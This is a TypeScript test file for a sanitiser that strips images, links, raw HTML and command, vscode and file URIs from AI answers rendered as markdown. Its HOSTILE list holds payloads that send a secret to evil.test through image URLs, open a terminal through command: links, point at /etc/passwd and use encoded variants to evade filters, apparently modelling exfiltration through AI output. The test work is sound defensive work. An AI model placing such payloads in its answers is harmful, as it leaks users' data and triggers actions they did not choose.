import assert from 'node:assert/strict';
import { test } from 'node:test';
import { fromMarkdown } from 'mdast-util-from-markdown';
import { gfmFromMarkdown } from 'mdast-util-gfm';
import { gfm } from 'micromark-extension-gfm';
import { visit } from 'unist-util-visit';
import { readAnswer } from '../../client/features/answer.ts';

/** Names the kinds of nodes that would load, link or run something. */
function dangers(markdown: string): string[] {
  const found: string[] = [];
  const tree = fromMarkdown(markdown, {
    extensions: [gfm()],
    mdastExtensions: [gfmFromMarkdown()],
  });
  visit(tree, ({ type }) => {
    if (/image|link|html|definition/i.test(type)) found.push(type);
  });
  return found;
}

const HOSTILE = [
  '![a](https://evil.test/x.png?q=secret)',
  'a ![](<https://evil.test/a b> "t") b',
  '![x][ref], ![ref][], ![ref] and [y][ref]\n\n[ref]: https://evil.test/x',
  '[![alt](https://evil.test/i.png)](command:workbench.action.terminal.new?%5B1%5D)',
  '<img src="https://evil.test/x">\n\nand <img src=x onerror=y> inside',
  '<a href="command:x">c</a> [c](command:x) [d](vscode://x/y) [e](file:///etc/passwd)',
  'https://evil.test/x www.evil.test <https://evil.test> a@evil.test xhttps://evil.test',
  '| a |\n|---|\n| ![q](https://evil.test/y) |',
  '- [ ] ![q](https://evil.test/y)\n  > ![r](https://evil.test/z)',
  '&#33;[a](https://evil.test/x) !&#91;a](https://evil.test/x) ![a]&#40;https://evil.test/x)',
  '\\![a](https://evil.test/x) !\\[b](https://evil.test/x)',
  '```js ![a](https://evil.test/x)\ncode\n```',
  'x[^1]\n\n[^1]: ![a](https://evil.test/x)',
  '# ![a](https://evil.test/x)\n![b](https://evil.test/y)\n---',
];

for (const answer of HOSTILE) {
  test(`nothing is loaded or linked by ${JSON.stringify(answer)}, cut off anywhere`, () => {
    for (let end = 1; end <= answer.length; end++) {
      const { markdown } = readAnswer(answer.slice(0, end));
      assert.deepEqual(dangers(markdown), [], markdown);
    }
  });
}

test('a hostile answer is dangerous before it is read, so that the test above can fail', () => {
  assert.ok(HOSTILE.filter((answer) => dangers(answer).length > 0).length >= 12);
});

test('an address is shown behind the words that it lay under, once', () => {
  const { markdown } = readAnswer('[docs](https://a.test/x?q=1), <https://b.test> and www.c.test');
  assert.equal(markdown, 'docs (`https://a.test/x?q=1`), `https://b.test` and `www.c.test`\n');
});

test('an address that hides under another one is shown', () => {
  const { markdown, links } = readAnswer(
    '[https://good.test](https://evil.test/https://good.test)',
  );
  assert.match(markdown, /`https:\/\/evil\.test\/https:\/\/good\.test`/);
  assert.deepEqual(
    links.map(({ host }) => host),
    ['evil.test'],
  );
});

test('what can be opened are pages of the web, each once', () => {
  const { links } = readAnswer(
    '[a](https://me@a.test/) [b](https://me@a.test/) [c](command:x) [d](file:///x) http://b.test',
  );
  assert.deepEqual(links, [
    { host: 'a.test', url: 'https://me@a.test/' },
    { host: 'b.test', url: 'http://b.test/' },
  ]);
});

test('what is harmless stays as it was written', () => {
  const answer = [
    '# Title',
    'Use `reduce`, **bold** and *thin*, ~~not~~ this:',
    '```ts\nconst a = "![x](https://a.test)";\n```',
    '1. one\n2. two\n   - three',
    '> quoted',
    '| a | b |\n| - | - |\n| 1 | 2 |',
  ].join('\n\n');
  assert.equal(readAnswer(answer).markdown, `${answer}\n`);
});

test('an image is told by its description, HTML by how it is written', () => {
  assert.equal(readAnswer('![a cat](https://a.test/x)').markdown, '(image: `a cat`)\n');
  assert.equal(readAnswer('a <b>c</b>').markdown, 'a `<b>`c`</b>`\n');
});
